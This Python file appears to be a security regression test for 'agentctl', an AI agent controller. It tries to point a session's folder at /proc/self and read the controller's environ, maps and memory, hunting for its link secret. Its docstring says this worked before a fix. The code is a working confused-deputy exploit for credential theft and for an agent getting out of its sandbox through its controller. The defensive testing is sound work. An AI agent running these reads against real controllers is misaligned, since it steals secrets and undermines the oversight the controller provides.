"""Lets agentctl read its own memory for the agent, through a workspace on procfs.

Tries: to set the own session's folder to /proc/self (or /proc), and to read `environ`, `maps` and
`mem` by the files calls, which agentctl serves with its own rights.
Would prove: agentctl, which the agent cannot trace, is its deputy; the secret of its link is in
there.
Saw (before the fix): `"secret":"aee4…"` of the bootstrap, and the agent's variables.
"""
import base64
import re
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
from wire import Api

CONTROL = ""  # denied on every machine
SECRET = rb'"secret":"[0-9a-f]{16,}'


def attack(world):
    from world import broken
    session = world.attacker()
    found = []
    for folder in ("/proc/self", "/proc/self/task/1", "/proc"):
        status, answer = world.api.post("/api/sessions", {"agent": "puppet", "cwd": folder})
        if status == 201:
            found += read(world.api, answer["session"]["id"], folder)
    found += broken(world.inside(session, __file__, world.socket, session))
    return found


def read(api, session, folder):
    """What the files calls of the session give away."""
    prefix = "self/" if folder == "/proc" else ""
    def file(path, offset=0, size=4 << 20):
        status, answer = api.get(f"/api/sessions/{session}/fs/read?path={prefix}{path}"
                                 f"&offset={offset}&bytes={size}&as=base64")
        return base64.b64decode(answer.get("base64", "")) if status == 200 else b""
    found = [f"{folder}: environ of agentctl was read"] if file("environ") else []
    for line in file("maps").decode().splitlines():
        match = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw-p", line)
        if not match:
            continue
        begin, end = int(match[1], 16), int(match[2], 16)
        pieces = range(begin, min(end, begin + (16 << 20)), 4 << 20)
        if any(re.search(SECRET, file("mem", at, min(end - at, 4 << 20))) for at in pieces):
            return found + [f"{folder}: the secret of agentctl's link was read in its memory"]
    return found


def inside(path, own):
    api = Api(path)
    status, answer = api.call("PATCH", f"/api/sessions/{own}", {"cwd": "/proc/self"})
    print("cwd of its own session:", status, str(answer)[:200])
    if status == 200:
        print("BROKE a process inside moved its session to /proc/self")


if __name__ == "__main__":
    inside(*sys.argv[1:])
